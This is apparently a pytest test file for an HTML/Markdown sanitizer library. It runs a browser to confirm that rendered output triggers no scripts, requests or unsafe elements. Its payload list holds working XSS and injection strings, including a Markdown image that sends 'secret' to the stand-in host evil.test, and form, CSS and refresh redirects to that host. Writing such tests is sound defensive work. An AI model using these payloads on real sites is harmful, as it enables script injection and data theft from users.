from __future__ import annotations

import sys
from collections.abc import Callable, Iterator, Sequence

import pytest

from rendercall.errors import MissingExtra
from rendercall.sinks import html as html_module
from rendercall.sinks import html_rich, html_text, markdown_html, terminal_text
from rendercall.sinks import markdown as markdown_module
from tests.corpus import attacks, payloads
from tests.sinks.chromium import Viewer, viewer

pytest.importorskip("playwright")

HOST = "images.example.org"
MORE = [
    '<img src="https://evil.test/a.png">',
    f'<img src="https://{HOST}@evil.test/a.png">',
    f'<img src="https://{HOST}.evil.test/a.png">',
    f'<img src="https://evil.test\\@{HOST}/a.png">',
    f'<img src="https://{HOST}:8443/a.png">',
    f'<img src="http://{HOST}/a.png">',
    f'<img src="//{HOST}/a.png"><img src="/logout">',
    '<img srcset="https://evil.test/a.png 2x" src=x>',
    '<a href="java&#9;script:alert(1)">x</a><a href="/logout">y</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<form action="https://evil.test"><input name=a><button>Go</button></form>',
    '<div style="background:url(https://evil.test/a)">x</div><style>@import "https://evil.test"</style>',
    '<svg><image href="https://evil.test/a"/><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe><base href="https://evil.test/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.test">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "![x](https://evil.test/?q=secret)",
    "[x](javascript:alert(1)) <javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x] ![y][x]",
    "<scr\u200bipt>alert(1)</scr\u200bipt>&#x202e;evil",
    "<img src=x\u200b onerror\u200b=alert(1)>",
]  # fmt: skip


@pytest.fixture(scope="module")
def page() -> Iterator[Viewer]:
    with viewer() as opened:
        yield opened


def batches(texts: Sequence[str], size: int = 100) -> Iterator[Sequence[str]]:
    for start in range(0, len(texts), size):
        yield texts[start : start + size]


def test_the_witness_sees(page: Viewer) -> None:
    """Raw, the payloads do what they are for: an oracle that saw nothing would prove nothing."""
    attempts = requests = 0
    for texts in batches(["<script>alert(1)</script>", *MORE[:1], *attacks("xss_libinjection")], 1):
        try:
            effects = page.show(texts)
        except Exception:  # noqa: BLE001, S112 - the page went elsewhere: an effect too
            continue
        attempts += bool(effects.attempts)
        requests += bool(effects.requests)
        if attempts > 3 and requests:
            return
    raise AssertionError((attempts, requests))


def test_html_text_is_text(page: Viewer) -> None:
    """Every payload is its own text: no element, no script, no request."""
    for texts in batches([*MORE, *payloads()]):
        effects = page.show([html_text(text) for text in texts])
        assert effects.attempts == []
        assert effects.requests == []
        assert effects.elements == []
        assert effects.texts == [terminal_text(text) for text in texts]


def test_html_text_stays_in_a_quoted_attribute(page: Viewer) -> None:
    """In quotes of either kind it is a value."""
    for texts in batches([*MORE, *payloads()]):
        shown = [
            f"<i title=\"{html_text(one)}\"></i><i title='{html_text(one)}'></i>" for one in texts
        ]
        effects = page.show(shown)
        assert (effects.attempts, effects.requests) == ([], [])
        assert effects.elements == ["i"] * 2 * len(texts)
        assert effects.texts == [""] * len(texts)


RICH: dict[str, Callable[..., str]] = {"html_rich": html_rich, "markdown_html": markdown_html}


@pytest.mark.parametrize("sink", RICH.values(), ids=RICH)
def test_rich_text_does_nothing(sink: Callable[..., str], page: Viewer) -> None:
    """No payload runs, loads or goes anywhere; links are plain absolute addresses."""
    for texts in batches([*MORE, *payloads()]):
        effects = page.show([sink(text) for text in texts])
        assert effects.attempts == []
        assert effects.requests == []
        assert all(one.startswith(("http://", "https://", "mailto:")) for one in effects.dangers)
        assert set(effects.elements) <= html_module._TAGS


@pytest.mark.parametrize("sink", RICH.values(), ids=RICH)
def test_images_load_from_named_hosts_alone(sink: Callable[..., str], page: Viewer) -> None:
    """Exactly that host, over https, on the usual port, without a user."""
    good = {
        "html_rich": f'<img src="https://{HOST}/a.png" alt="A">',
        "markdown_html": f"![A](https://{HOST}/a.png)",
    }[sink.__name__]
    effects = page.show([sink(text, image_hosts={HOST}) for text in [*MORE, good]])
    assert effects.requests == [f"https://{HOST}/a.png"]
    assert effects.attempts == []


def test_rich_text_keeps_what_lessons_need() -> None:
    """Headings, lists, tables, code and links."""
    text = "# Tea\n\n- **hot** `cup`\n\n|a|b|\n|-|-|\n|1|2|\n\n[more](https://example.org)\n\n```sql\nDROP TABLE x;\n```\n"
    shown = markdown_html(text)
    for part in ("<h1>Tea</h1>", "<strong>hot</strong>", "<code>cup</code>", "<td>2</td>",
                 '<a href="https://example.org" rel="noopener noreferrer nofollow">more</a>',
                 "DROP TABLE x;"):  # fmt: skip
        assert part in shown
    assert html_rich(shown) == shown


def test_tags_in_markdown_are_text() -> None:
    """What looks like HTML is shown, not meant."""
    assert "&lt;b&gt;bold&lt;/b&gt;" in markdown_html("say <b>bold</b>")


def test_entities_bring_nothing_hidden_back() -> None:
    """Overrides of direction and tags are gone however they were written."""
    for sink in RICH.values():
        shown = sink("a&#x202e;b&#xE0041;c &#8203;d")
        assert not set(shown) & {"\u202e", "\U000e0041", "\u200b"}


@pytest.mark.parametrize(
    ("module", "run"),
    [("nh3", html_rich), ("markdown_it", markdown_html)],
    ids=["nh3", "markdown_it"],
)
def test_a_missing_extra_is_named(
    module: str, run: Callable[[str], str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """The error says what to install."""
    monkeypatch.setitem(sys.modules, module, None)
    html_module._cleaner.cache_clear()
    markdown_module._renderer.cache_clear()
    with pytest.raises(MissingExtra, match=r"rendercall\[html\]"):
        run("x")
    html_module._cleaner.cache_clear()
    markdown_module._renderer.cache_clear()
